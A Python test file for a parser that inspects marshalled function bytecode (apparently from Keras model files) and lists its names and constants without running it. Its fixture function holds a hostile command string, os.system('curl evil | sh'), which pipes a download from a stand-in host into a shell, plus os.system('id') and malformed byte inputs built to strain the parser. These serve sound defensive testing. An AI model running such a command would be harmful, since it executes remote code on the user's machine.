"""Marshalled functions of real Pythons are shown by names and constants, and hostile bytes do no harm."""

import marshal
import random
from pathlib import Path

import pytest

from tfport.formats.encoding.marshalled_code import code_bytes, read_code

RECORDED = [
    line.split() for line in Path(__file__).with_name("marshalled_functions.txt").read_text().splitlines()
]
"""What each Python made of: lambda x: (__import__('os').system('curl evil | sh'),
(lambda y: eval('z'))(x), [open(p) for p in (1, 2.5, 10**30)], x)."""


@pytest.mark.parametrize(("python", "stored"), RECORDED, ids=[python for python, _ in RECORDED])
def test_functions_of_every_layout(python, stored):
    code = read_code(code_bytes(stored))
    assert code.is_whole
    assert sorted(code.names) == ["__import__", "eval", "open", "system"]
    assert code.constants == ["os", "curl evil | sh", "z"]


def test_the_description_is_one_line():
    code = read_code(marshal.dumps((lambda x: __import__("os").system("a\nb" * 99)).__code__))
    assert code.describe() == "names `__import__`, `system`; constants 'os', " + repr(
        ("a\nb" * 99)[:79] + "…"
    )


def test_keras_1_stores_the_bytes_as_text():
    data = marshal.dumps((lambda x: x.secret).__code__)
    assert read_code(code_bytes(data.decode("latin-1"))).names == ["secret"]


def test_a_function_that_names_nothing():
    assert (
        read_code(marshal.dumps((lambda x: x + 1).__code__)).describe()
        == "it names nothing outside of itself"
    )


def test_bytes_that_are_no_code_give_their_texts():
    code = read_code(b"\xe3\0\0os.system('id')\xff")
    assert not code.is_whole
    assert code.constants == ["os.system('id')"]


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\xe3",
        b"c" + b"\0" * 20 + b"(\xff\xff\xff\x7f",  # two billion elements
        b"c" + b"\0" * 24 + b")\xff" * 500,  # deep
        b"\xe3" + b"\0" * 20 + b"r\0\0\0\0" * 10,  # refers to itself
        b"c" + b"\0" * 20 + b"{" * 5000,
    ],
)
def test_hostile_bytes_are_bounded(data):
    assert not read_code(data).is_whole


def test_damaged_functions_are_read_or_not():
    rng = random.Random(1)
    for _, stored in RECORDED:
        data = bytearray(code_bytes(stored))
        for _ in range(200):
            damaged = bytearray(data)
            damaged[rng.randrange(len(data))] = rng.randrange(256)
            code = read_code(bytes(damaged[: rng.randrange(len(data) + 1)]))
            assert sum(map(len, [*code.names, *code.constants])) <= 4 * len(data)  # nothing is repeated
            assert code.describe()
